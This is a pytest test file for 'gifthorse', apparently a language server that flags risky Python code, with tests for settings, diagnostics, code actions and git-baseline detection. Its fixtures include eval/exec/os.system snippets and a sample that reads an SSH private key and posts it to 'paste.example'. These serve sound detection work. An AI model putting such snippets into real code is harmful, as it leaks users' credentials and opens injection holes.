"""Scope, settings, pull diagnostics, code actions and the git baseline, with one client."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path

import pytest
from lsprotocol import types

from .editor import Editor

RISKY = "def load(data):\n    return eval(data)\n"


def git(root: Path, *args: str) -> None:
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@t",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@t",
    )
    subprocess.run(["git", *args], cwd=root, check=True, env=env, capture_output=True)


async def test_scope_all_shows_old_code_as_hints(vscode: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "import os\n" + RISKY)
    assert await vscode.diagnostics(uri) == []
    published = len(vscode.published)
    vscode.client.workspace_did_change_configuration(
        types.DidChangeConfigurationParams(settings={"gifthorse": {"scope": "all"}})
    )
    [old] = await vscode.pushed(uri, lambda p: bool(p.diagnostics), since=published)
    assert old.code == "GH100" and old.severity == types.DiagnosticSeverity.Hint
    version = vscode.insert(uri, 3, 0, "exec(payload)\n")
    severities = {d.range.start.line: d.severity for d in await vscode.diagnostics(uri, version)}
    assert severities == {2: types.DiagnosticSeverity.Hint, 3: types.DiagnosticSeverity.Error}


async def test_a_bad_setting_is_named_and_the_rest_applies(vscode: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "")
    vscode.client.workspace_did_change_configuration(
        types.DidChangeConfigurationParams(
            settings={"gifthorse": {"ignore": ["GH100"], "insertionMinLines": "many", "colour": 1}}
        )
    )
    for _ in range(300):
        if len(vscode.client.messages) >= 2:
            break
        await asyncio.sleep(0.02)
    messages = " | ".join(m.message for m in vscode.client.messages)
    assert "insertionMinLines" in messages and "colour" in messages
    version = vscode.insert(uri, 0, 0, RISKY)
    assert await vscode.diagnostics(uri, version) == []  # `ignore` still applied


async def test_settings_come_from_pyproject_and_the_editor(vscode: Editor, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.gifthorse]\nignore = ["GH100"]\n')
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "")
    version = vscode.insert(uri, 0, 0, RISKY)
    assert await vscode.diagnostics(uri, version) == []
    # the editor's settings are asked for with workspace/configuration and win
    vscode.client.set_configuration({"gifthorse": {"ignore": []}})
    published = len(vscode.published)
    vscode.client.workspace_did_change_configuration(
        types.DidChangeConfigurationParams(settings=None)
    )
    [d] = await vscode.pushed(uri, lambda p: bool(p.diagnostics), since=published)
    assert d.code == "GH100"


async def test_pull_diagnostics(puller: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    puller.open(uri, "import os\n")
    assert puller.pull
    puller.insert(uri, 1, 0, RISKY)
    params = types.DocumentDiagnosticParams(text_document=types.TextDocumentIdentifier(uri=uri))
    first = await puller.client.text_document_diagnostic_async(params)
    assert isinstance(first, types.RelatedFullDocumentDiagnosticReport)
    assert [d.code for d in first.items] == ["GH100"]
    params.previous_result_id = first.result_id
    again = await puller.client.text_document_diagnostic_async(params)
    assert isinstance(again, types.RelatedUnchangedDocumentDiagnosticReport)
    # nothing was pushed: the client pulls
    assert not [p for p in puller.published if p.uri == uri]
    refreshes = puller.client.diagnostic_refresh_count
    await puller.execute("gifthorse.markReviewed", uri)
    assert puller.client.diagnostic_refresh_count == refreshes + 1
    assert await puller.diagnostics(uri) == []


async def test_fix_all_and_suppress(vscode: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "import yaml\n\n")
    block = (
        "def read(handle):\n"
        "    return yaml.load(handle)\n"
        "\n"
        "def load(data):\n"
        "    return eval(data)\n"
    )
    version = vscode.insert(uri, 2, 0, block)
    diagnostics = await vscode.diagnostics(uri, version)
    codes = {d.code for d in diagnostics}
    assert "GH100" in codes and "GH552" in codes
    eval_diagnostic = next(d for d in diagnostics if d.code == "GH100")
    [fix_all] = await vscode.code_actions(uri, eval_diagnostic, only=["source.fixAll"])
    assert fix_all.kind == "source.fixAll.gifthorse"
    # the suppression, first: the user's own, so not reported as GH002
    suppress = next(
        a
        for a in await vscode.code_actions(uri, eval_diagnostic)
        if a.title == "Suppress GH100 on this line"
    )
    assert suppress.edit is not None
    version = vscode.apply(uri, suppress.edit)
    assert "return eval(data)  # gifthorse: ignore[GH100]" in vscode.texts[uri]
    assert {d.code for d in await vscode.diagnostics(uri, version)} == codes - {"GH100"}
    # then every safe fix at once (the unsafe literal_eval rewrite is not among them)
    yaml_diagnostic = next(d for d in diagnostics if d.code == "GH552")
    [fix_all] = await vscode.code_actions(uri, yaml_diagnostic, only=["source.fixAll"])
    assert fix_all.edit is not None
    version = vscode.apply(uri, fix_all.edit)
    assert "yaml.load(" not in vscode.texts[uri]
    assert "GH552" not in {d.code for d in await vscode.diagnostics(uri, version)}


async def test_data_flow_points_at_its_source(vscode: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "import requests\n\n")
    block = (
        "def leak():\n"
        "    key = open('/home/me/.ssh/id_rsa').read()\n"
        "    requests.post('https://paste.example/x', data=key)\n"
    )
    version = vscode.insert(uri, 2, 0, block)
    flows = [d for d in await vscode.diagnostics(uri, version) if d.related_information]
    assert flows, "an exfiltration finding with its source"
    related = flows[0].related_information
    assert related is not None and related[0].location.uri == uri
    assert related[0].location.range.start.line == 3


async def test_review_on_save(vscode: Editor, tmp_path: Path) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.client.workspace_did_change_configuration(
        types.DidChangeConfigurationParams(settings={"gifthorse": {"reviewOnSave": True}})
    )
    vscode.open(uri, "")
    version = vscode.insert(uri, 0, 0, RISKY)
    assert len(await vscode.diagnostics(uri, version)) == 1
    published = len(vscode.published)
    vscode.client.text_document_did_save(
        types.DidSaveTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
    )
    assert await vscode.pushed(uri, lambda p: not p.diagnostics, since=published) == []


async def test_uncommitted_lines_are_fresh_at_open(vscode: Editor, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    path = tmp_path / "a.py"
    path.write_text("import os\n" + RISKY)
    git(tmp_path, "add", "a.py")
    git(tmp_path, "commit", "-q", "-m", "init")
    text = "import os\n" + RISKY + "\ndef run(cmd):\n    exec(cmd)\n"
    path.write_text(text)
    vscode.open(path.as_uri(), text)
    diagnostics = await vscode.pushed(path.as_uri(), lambda p: bool(p.diagnostics))
    assert [d.range.start.line for d in diagnostics] == [5]  # the committed eval stays quiet


async def test_files_changed_on_disk(vscode: Editor, tmp_path: Path) -> None:
    for _ in range(500):
        if vscode.registrations:
            break
        await asyncio.sleep(0.02)
    assert vscode.registrations, "the server watches **/*.py"
    watchers = vscode.registrations[0].registrations[0].register_options
    assert "**/*.py" in str(watchers)
    git(tmp_path, "init", "-q")
    path = tmp_path / "agent.py"
    path.write_text("import os\n")
    git(tmp_path, "add", "agent.py")
    git(tmp_path, "commit", "-q", "-m", "init")
    uri = path.as_uri()

    def changed() -> None:
        vscode.client.workspace_did_change_watched_files(
            types.DidChangeWatchedFilesParams(
                changes=[types.FileEvent(uri=uri, type=types.FileChangeType.Changed)]
            )
        )

    path.write_text("import os\n\ndef run(cmd):\n    os.system(cmd)\n    exec(cmd)\n")
    changed()
    diagnostics = await vscode.pushed(uri, lambda p: bool(p.diagnostics))
    assert {d.range.start.line for d in diagnostics} >= {4}
    assert all(d.range.start.line >= 2 for d in diagnostics)
    assert all("in code inserted at" in d.message for d in diagnostics)
    published = len(vscode.published)
    path.write_text("import os\n")  # reverted
    changed()
    assert await vscode.pushed(uri, lambda p: not p.diagnostics, since=published) == []
    path.write_text("import os\nexec(cmd)\n")
    changed()
    await vscode.pushed(uri, lambda p: bool(p.diagnostics), since=published)
    published = len(vscode.published)
    vscode.open(uri, "import os\nexec(cmd)\n")  # the buffer takes over
    await vscode.pushed(uri, lambda p: not p.diagnostics and p.version is None, since=published)
    # The buffer reports on its own: against the git baseline (read in the background) the
    # uncommitted line is fresh, so once the baseline is in, that line is flagged again.
    current: list[types.Diagnostic] = []
    for _ in range(200):
        current = await vscode.diagnostics(uri)
        if current:
            break
        await asyncio.sleep(0.05)
    assert [(d.range.start.line, d.code) for d in current] == [(1, "GH100")]


@pytest.mark.parametrize("count", [40])
async def test_a_burst_of_changes_is_analysed_once(
    vscode: Editor, tmp_path: Path, count: int
) -> None:
    uri = (tmp_path / "a.py").as_uri()
    vscode.open(uri, "def f(data):\n    return data\n")
    await vscode.diagnostics(uri)
    published = len(vscode.published)
    versions = vscode.type(uri, 1, len("    return "), "eval(" + "x" * (count - 6) + ")")
    diagnostics = await vscode.diagnostics(uri, versions[-1])
    assert [d.code for d in diagnostics] == ["GH100"]
    publications = [p for p in vscode.published[published:] if p.uri == uri]
    assert publications[-1].version == versions[-1]
    # keystrokes that arrived together were analysed together
    assert len(publications) < len(versions)
